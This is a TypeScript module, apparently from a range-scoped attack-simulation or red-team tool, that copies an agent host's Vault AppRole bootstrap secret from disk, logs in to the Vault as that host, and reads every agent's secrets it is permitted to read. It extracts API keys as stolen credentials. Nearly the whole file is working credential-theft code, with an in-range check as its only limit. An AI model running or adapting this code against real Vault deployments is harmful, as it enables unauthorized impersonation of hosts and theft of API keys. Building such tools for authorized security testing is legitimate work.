import { readFile } from 'node:fs/promises';
import type { FootholdFor } from '@blastradius/contracts';
import { z } from 'zod';
import { assertInRange } from '../../engine/range-only.ts';
import { findSecrets, noFinds } from '../../host/find-secrets.ts';
import type { Credential } from '../../loot/credential.ts';
import type { Thief } from '../../playbooks/moltbook/thief.ts';
import type { LeakAct, OpenLeak, Taking } from '../leak-act.ts';

const bootstrap = z.object({ role_id: z.string(), secret_id: z.string() });
export type BootstrapSecret = z.infer<typeof bootstrap>;
/** It asks for those that it knows by name. */
export type VaultThief = Pick<Thief, 'fetch' | 'publicNames'>;
const login = z.object({ auth: z.object({ client_token: z.string() }) });

/**
 * What an agent's host logs in to the vault with, copied once. As long as it is good, the thief is that host:
 * it reads every key that the host's policy lets it read, and again after each change.
 */
export const openVaultBootstrapSecret: OpenLeak<'vault-bootstrap-secret'> = (foothold, thief) =>
  openVault(foothold, thief);

export async function openVault(
  { vaultUrl, secretFile }: Pick<FootholdFor<'vault-bootstrap-secret'>, 'vaultUrl' | 'secretFile'>,
  thief: VaultThief,
): Promise<LeakAct> {
  const { origin } = await assertInRange(vaultUrl);
  let copied: BootstrapSecret | undefined;
  return {
    look: async (): Promise<Taking> => {
      copied ??= bootstrap.parse(JSON.parse(await readFile(secretFile, 'utf8')));
      return readVault(thief, origin, copied);
    },
  };
}

/** Logs in as the host and reads what it may read; nothing where the vault refuses. `origin` is in range. */
export async function readVault(thief: VaultThief, origin: string, secret: BootstrapSecret): Promise<Taking> {
  const token = await logIn(thief, origin, secret);
  if (token === undefined) return { credentials: [] };
  const read = await Promise.all(thief.publicNames.map((agent) => keysOf(thief, { origin, token, agent })));
  return { credentials: read.flat(), rows: read.filter((keys) => keys.length > 0).length };
}

async function logIn(
  { fetch }: Pick<Thief, 'fetch'>,
  origin: string,
  secret: BootstrapSecret,
): Promise<string | undefined> {
  const answer = await fetch(`${origin}/v1/auth/approle/login`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(secret),
  });
  return answer.ok ? login.parse(await answer.json()).auth.client_token : undefined;
}

/** The policy says of which agents. */
async function keysOf(
  { fetch }: Pick<Thief, 'fetch'>,
  { origin, token, agent }: { readonly origin: string; readonly token: string; readonly agent: string },
): Promise<Credential[]> {
  const answer = await fetch(`${origin}/v1/secret/data/agents/${encodeURIComponent(agent)}`, {
    headers: { 'x-vault-token': token },
  });
  if (!answer.ok) return [];
  const finds = noFinds();
  findSecrets(Buffer.from(await answer.text()), finds, { isMemory: false });
  return [...finds.apiKeys].map((apiKey) => ({ kind: 'api-key', apiKey, agent }));
}
